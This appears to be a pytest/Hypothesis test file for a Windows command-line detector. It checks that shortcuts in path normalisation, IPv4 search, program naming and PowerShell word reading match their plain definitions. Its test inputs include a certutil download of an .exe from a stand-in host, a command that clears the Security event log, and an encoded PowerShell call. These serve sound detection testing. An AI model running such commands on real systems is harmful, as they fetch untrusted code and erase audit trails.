"""The Windows detector's shortcuts give exactly what the work they skip would have given.

Each speed-up skips a step when a cheap check shows the step cannot change anything (no ``hk``
prefix: no hive renaming; fewer than three dots: no IPv4 address; no dot: no ``.exe`` suffix),
or starts a search where an earlier one already looked (the excerpt is cut from the first pattern
the RE2 set reported), or reads a text of plain words without its parser. These properties hold
each shortcut against the plain definition it replaces, on generated text built from the
characters that matter to it.
"""

from __future__ import annotations

import re
from unittest.mock import patch

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from ssm_warden.detect.windows import detector as detector_module
from ssm_warden.detect.windows import powershell as powershell_module
from ssm_warden.detect.windows import windows_detector
from ssm_warden.detect.windows.facts import (
    _HIVES,
    _IPV4,
    _SLASHED_PATH,
    _arg_view,
    _line,
    ipv4_addresses,
    normalise_path,
)
from ssm_warden.detect.windows.plain import plain_words
from ssm_warden.detect.windows.powershell import read_powershell
from ssm_warden.detect.windows.programs import _EXE_SUFFIX, ALIASES, canonical_program
from ssm_warden.detect.windows.reading import Command, Reading

# Pieces that the skipped steps look for, with near misses and look-alikes (K is KELVIN SIGN, which
# matches "k" case-insensitively).
_PATH_PIECES = st.sampled_from(
    [
        "hk",
        "HK",
        "hK",
        "h\u212a",
        "hklm",
        "HKLM:",
        "hkey_local_machine",
        "HKEY_CURRENT_USER",
        "hkcu",
        "hku",
        "hkey_users",
        "hkcr",
        "hkey_classes_root",
        "registry::",
        "Registry::",
        "re",
        "reg",
        "\\",
        "\\\\",
        "/",
        "//",
        ":",
        "C:",
        "c",
        "%TEMP%",
        "$env:",
        "sam",
        "x",
        " ",
        "'",
        '"',
        "\n",
    ]
)
_PATHS = st.lists(_PATH_PIECES, max_size=8).map("".join)


def _normalise_path_plainly(text: str) -> str:
    path = text.strip().strip("'\"").replace("/", "\\")
    for pattern, hive in _HIVES:
        path = pattern.sub(hive, path, count=1)
    return re.sub(r"\\{2,}", r"\\", path) if not path.startswith("\\\\") else path


def _arg_view_plainly(arg: str) -> str:
    if arg[:2].lower() in ("hk", "re"):
        return _normalise_path_plainly(arg)
    if _SLASHED_PATH.match(arg):
        return arg.replace("/", "\\")
    return arg


@settings(max_examples=400, deadline=None)
@given(_PATHS)
def test_hive_renaming_is_skipped_only_where_it_renames_nothing(text: str) -> None:
    assert normalise_path(text) == _normalise_path_plainly(text)


@settings(max_examples=400, deadline=None)
@given(_PATHS)
def test_slash_folding_is_skipped_only_where_there_is_no_slash(arg: str) -> None:
    assert _arg_view(arg) == _arg_view_plainly(arg)


_ARGS = st.tuples(
    st.sampled_from(["", "R", "r", "H", "h", "Registry::", "HKLM", "/", "C:/", "x"]), _PATHS
).map("".join)


@settings(max_examples=500, deadline=None)
@given(st.lists(_ARGS, max_size=5))
def test_a_command_line_views_every_argument_as_arg_view_does(args: list[str]) -> None:
    command = Command("reg", tuple(args), "powershell", 1, 0)
    plain = " ".join(["reg", *map(_arg_view_plainly, args)]).lower().replace("\n", " ")
    assert _line(command) == plain


_ADDRESS_PIECES = st.sampled_from(
    [
        "1",
        "12",
        "192",
        "1234",
        "0",
        "\u0663",
        ".",
        "..",
        "a",
        "_",
        " ",
        "-",
        "v",
        "10.0.0.1",
        "1.2.3",
        "1.",
        ".1",
    ]
)


@settings(max_examples=500, deadline=None)
@given(st.lists(_ADDRESS_PIECES, max_size=16).map("".join))
def test_ipv4_search_is_skipped_only_where_no_address_can_be(text: str) -> None:
    assert ipv4_addresses(text) == [m.group(0) for m in _IPV4.finditer(text)]


def _canonical_program_plainly(name: str, shell: str) -> str:
    text = name.strip().strip("'\"").replace("/", "\\")
    base = text.rsplit("\\", 1)[-1].lower()
    had_exe = base.endswith(".exe")
    base = _EXE_SUFFIX.sub("", base)
    if shell == "powershell" and not had_exe:
        return ALIASES.get(base, base)
    return base


_NAME_PIECES = st.sampled_from(
    ["iwr", "iex", "certutil", "CMD", ".exe", ".EXE", ".ps1", ".bat", ".", "\\", "/", "C:", "'", " ", "x"]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(_NAME_PIECES, max_size=6).map("".join), st.sampled_from(["powershell", "cmd"]))
def test_suffix_removal_is_skipped_only_where_there_is_no_dot(name: str, shell: str) -> None:
    assert canonical_program(name, shell) == _canonical_program_plainly(name, shell)


def _rule_examples() -> list[tuple[str, str]]:
    detector = windows_detector(("default",))
    return [
        (text, rule.example_shell)
        for rule in detector.rules
        for text in (*rule.must_match, *rule.must_not_match)
    ]


def test_an_excerpt_is_cut_where_searching_every_pattern_from_the_first_would_cut_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    detector = windows_detector(("default",))
    examples = _rule_examples()
    shortcut = [[f.reason for f in detector.judge_command(t, s)] for t, s in examples]
    excerpt = detector_module._excerpt
    monkeypatch.setattr(detector_module, "_excerpt", lambda cond, text, first=0: excerpt(cond, text, 0))
    plain = [[f.reason for f in detector.judge_command(t, s)] for t, s in examples]
    assert sum(len(r) for r in shortcut) > 100  # the examples do produce findings to compare
    assert shortcut == plain


# Words and near misses for the plain-words reading: keywords, numbers, parameters with a colon or
# a digit, paths, operators spelled like parameters, separators.
_WORD_PIECES = st.sampled_from(
    [
        "a",
        "x",
        "e",
        "_",
        "x_",
        "A1",
        "x1",
        "1x",
        "1",
        "0x1",
        "1.5",
        "5d",
        "1mb",
        "-",
        "--",
        "--%",
        "-x",
        "-1",
        "-5",
        "-a:b",
        "-c:",
        "-and",
        "-eq",
        "-Encoded",
        ".",
        "..",
        "./",
        ".\\",
        "..\\x",
        "\\",
        "\\\\h\\s",
        "/",
        "/c",
        ":",
        "C:",
        "c:\\x",
        "a:b",
        "a.b",
        "x.exe",
        "v1.0",
        " ",
        "  ",
        "if",
        "IF",
        "For",
        "for",
        "foreach",
        "function",
        "param",
        "in",
        "Foreach-Object",
        "Get-Item",
        "iwr",
        "sal",
        "set-alias",
        "New-Alias",
        "powershell",
    ]
)


def _reading_of(text: str) -> Reading:
    reading = Reading()
    read_powershell(text, reading)
    return reading


def _read_both_ways(text: str) -> tuple[Reading, Reading]:
    shortcut = _reading_of(text)
    with patch.object(powershell_module, "plain_words", lambda _text: None):
        parsed = _reading_of(text)
    return shortcut, parsed


@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(st.lists(_WORD_PIECES, min_size=1, max_size=6).map("".join))
def test_plain_words_are_read_as_the_parser_reads_them(text: str) -> None:
    assume(plain_words(text) is not None)
    shortcut, parsed = _read_both_ways(text)
    assert shortcut == parsed


# Texts of the characters plain words allow that the parser reads otherwise, one per rule of
# ``plain_words`` (found by the generator above over many more examples than it runs here).
@pytest.mark.parametrize(
    "typed",
    [
        "  param-and0x10x1  ",  # a dash, letters, a digit: an operator and a number to the grammar
        "param-5param",  # a digit after a sign: a number
        "for forfor",  # a keyword first
        "param paramparam",
        "Foreach-Object .a",  # a name starting with a keyword
        "a 0x1",  # an argument starting with a digit
        "x -- 0x1",
        "a -or1",  # a parameter with a digit
        "x1  -x.  x1",  # a parameter with a dot
        "Get-Item -a:b",  # a parameter with a colon is two arguments
        "a -x:",
        "a :",
    ],
)
def test_what_the_parser_reads_otherwise_is_not_plain_words(typed: str) -> None:
    shortcut, parsed = _read_both_ways(typed)
    with patch.object(powershell_module, "plain_words", lambda text: text.split()):
        forced = _reading_of(typed)
    assert plain_words(typed) is None
    assert shortcut == parsed
    assert forced != parsed  # the reading without the parser would be wrong here


@pytest.mark.parametrize(
    "typed",
    [
        "Get-Service -Name w3svc",
        "ipconfig /all",
        "C:\\Windows\\System32\\certutil.exe -urlcache -f http://x/a.exe a.exe",
        "wevtutil cl Security",
        "powershell -enc QQBBAEEA",
    ],
)
def test_everyday_commands_take_the_plain_words_reading(typed: str) -> None:
    assert plain_words(typed) == typed.split()
